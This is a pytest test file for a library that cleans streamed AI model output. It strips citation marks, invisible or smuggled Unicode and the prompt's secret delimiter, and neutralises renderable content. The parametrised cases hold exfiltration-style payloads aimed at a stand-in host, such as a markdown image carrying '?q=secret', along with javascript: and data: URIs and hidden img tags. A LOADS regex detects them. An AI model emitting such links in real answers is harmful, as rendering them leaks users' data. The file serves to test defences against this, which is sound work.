"""The model's text: marks found wherever the stream is cut, nothing hidden, nothing that a renderer would load."""

import re
from itertools import pairwise

import pytest
from assay_core.sentences import split_sentences
from assay_generation.draft import Draft, Sentence, without_bullet
from assay_generation.hygiene import REMOVED, inert, visible
from assay_generation.marks import Mark, ModelText
from hypothesis import given
from hypothesis import strategies as st

KNOWN = "See https://docs.example.org/pump?page=2 for more."
ANSWER = (
    "Staff receive 28 days [1]. Up to six days may be carried over [2, 3]. See https://docs.example.org/pump?page=2 "
    "or https://evil.example/?q=secret. ![x](https://evil.example/p.png) Ask HR [passage 12]! <img src=x> Done.[4][5]"
    "\n- one【2】\n- two\n\n东京的夏天很热【1】。冬天很冷[2]。 Über “quoted.” [3] No. 5 is e.g. fine. 🚢 sails [sic]."
)


def read(pieces: list[str]) -> tuple[str, list[Mark]]:
    text = ModelText(known=KNOWN, secret="0a1b2c3d")
    clean = "".join(text.feed(piece) for piece in pieces) + text.finish()
    return clean, text.marks


def sentences(pieces: list[str]) -> list[Sentence]:
    draft = Draft(ModelText(known=KNOWN))
    return [sentence for piece in pieces for sentence in draft.feed(piece)] + draft.finish()


def cut(text: str, places: list[int]) -> list[str]:
    ends = [0, *sorted(place % (len(text) + 1) for place in places), len(text)]
    return [text[start:end] for start, end in pairwise(ends)]


def test_marks_are_taken_out_and_remembered() -> None:
    clean, marks = read(["Staff receive 28 days [1]. Six may be kept over. [2][3] Ask [4, 2; 7 and 9]."])
    assert clean == "Staff receive 28 days. Six may be kept over. Ask."
    assert [mark.numbers for mark in marks] == [(1,), (2,), (3,), (4, 2, 7, 9)]
    assert clean[: marks[0].position] == "Staff receive 28 days"


@pytest.mark.parametrize("text", ["[sic]", "[2025]", "a[i]", "[see page 3]", "[ ]", "f[12", "[1.5]"])
def test_other_brackets_stay(text: str) -> None:
    assert read([f"So {text} it is"]) == (f"So {text} it is", [])


@pytest.mark.parametrize("position", range(len(ANSWER) + 1))
def test_a_cut_anywhere_changes_nothing(position: int) -> None:
    assert read([ANSWER[:position], ANSWER[position:]]) == read([ANSWER])
    assert sentences([ANSWER[:position], ANSWER[position:]]) == sentences([ANSWER])


def test_single_characters_give_the_same_as_the_whole() -> None:
    assert read(list(ANSWER)) == read([ANSWER])
    assert sentences(list(ANSWER)) == sentences([ANSWER])


WORDS = "[1]@[2, 3]@[@]@(@!@<a@. @Word@ word@\n@\n- @e.g. @? @“@” @12@ @日本語@。@|@\u200b@www.evil.example"
ADDRESSES = ["https://evil.example/x", "https://docs.example.org/pump?page=2"]
PIECES = st.lists(st.sampled_from([*WORDS.split("@"), *ADDRESSES]), max_size=40).map("".join)


@given(PIECES, st.lists(st.integers(0, 10_000), max_size=12))
def test_any_cutting_gives_the_same_text_and_sentences(text: str, places: list[int]) -> None:
    assert read(cut(text, places)) == read([text])
    assert sentences(cut(text, places)) == sentences([text])


@given(PIECES, st.lists(st.integers(0, 10_000), max_size=12))
def test_sentences_lose_nothing_but_the_space_at_the_end(text: str, places: list[int]) -> None:
    clean, marks = read([text])
    found = sentences(cut(text, places))
    assert "".join(s.lead + s.text for s in found) == clean.rstrip() or not found
    assert [s.text for s in found] == [clean[start:end] for start, end in split_sentences(clean)]
    if found:
        assert {n for s in found for n in s.named} == {n for mark in marks for n in mark.numbers}


def test_long_text_without_spaces_is_not_held_back() -> None:
    text = ModelText(known="")
    shown = text.feed("汉字" * 2_000)
    assert len(shown) > 3_900
    assert shown + text.finish() == "汉字" * 2_000


def test_sentence_knows_the_passages_that_the_model_named() -> None:
    found = sentences(["[3] It is so [1]. And so. [2] Finally"])
    assert [(s.text, s.named) for s in found] == [("It is so.", (3, 1)), ("And so.", (2,)), ("Finally", ())]


def test_only_the_sentence_that_another_follows_is_complete() -> None:
    draft = Draft(ModelText(known=""))
    assert draft.feed("Dr. Smith came. ") == []
    assert [s.text for s in draft.feed("He left")] == ["Dr. Smith came."]
    assert draft.feed(" soon.") == []
    assert [s.text for s in draft.finish()] == ["He left soon."]


def test_bullet_of_a_lone_item_goes() -> None:
    assert without_bullet(Sentence("", "- 28 days.", ())).text == "28 days."
    assert without_bullet(Sentence("", "-5 degrees", ())).text == "-5 degrees"


LOADS = re.compile(r"!\[|\]\(|\]:|\]\[|<[A-Za-z/!?]|:(?://)?evil|www\.|html,")


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "![x][1](https://evil.example)",
        "[x]: https://evil.example",
        "![x][ref]",
        "<img src='https://evil.example'>",
        "<img\nsrc=//evil.example>",
        "<!--evil-->",
        "www.evil.example",
        "javascript:evil()",
        "data:text/html,evil",
        "HTTPS://EVIL.example/evil",
        "!\u200b[x]\u200b(https://evil.example)",
        "<\u2060img src=x>",
    ],
)
def test_nothing_that_a_renderer_loads_gets_out(attack: str) -> None:
    for pieces in ([attack], list(attack), ["See ", attack, " now."]):
        clean, _ = read(pieces)
        assert LOADS.search(clean) is None, clean
    assert LOADS.search(inert(visible(attack), known="")) is None


@given(PIECES, st.lists(st.integers(0, 10_000), max_size=8))
def test_no_mixture_of_pieces_makes_a_link(text: str, places: list[int]) -> None:
    clean, _ = read(cut(text, places))
    assert re.search(r"!\[|\]\(|<[A-Za-z/!?]|evil\.example", clean) is None


def test_addresses_of_the_sources_may_be_named() -> None:
    assert (
        inert("See https://docs.example.org/pump?page=2.", known=KNOWN) == "See https://docs.example.org/pump?page=2."
    )
    assert inert("See https://docs.example.org/other.", known=KNOWN) == f"See {REMOVED}"


def test_delimiter_of_the_prompt_is_not_repeated() -> None:
    assert read(["The mark is 0a1b", "2c3d here."])[0] == "The mark is  here."


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("a\u200bb\u202ec\u2066d\u00ade", "abcde"),
        ("hidden\U000e0041\U000e0042", "hidden"),
        ("nul\x00bell\x07", "nulbell"),
        ("lone \ud800 surrogate", "lone  surrogate"),
        ("smuggled\ufe01\U000e0120", "smuggled"),
        ("one\r\ntwo\u2028three\x0cfour", "one\ntwo\nthree\nfour"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("👩\u200d🚀 ok", "👩\u200d🚀 ok"),
    ],
)
def test_what_cannot_be_seen_goes(raw: str, clean: str) -> None:
    assert visible(raw) == clean


def test_joiners_stay_where_they_join_and_hide_nothing_elsewhere() -> None:
    assert visible("می\u200cخواهم 👩\u200d👧") == "می\u200cخواهم 👩\u200d👧"
    assert visible("plain\u200c\u200d\u200c\u200d text\u200d") == "plain text"
    assert visible("é\u200b\u200c\u200dé") == "éé"
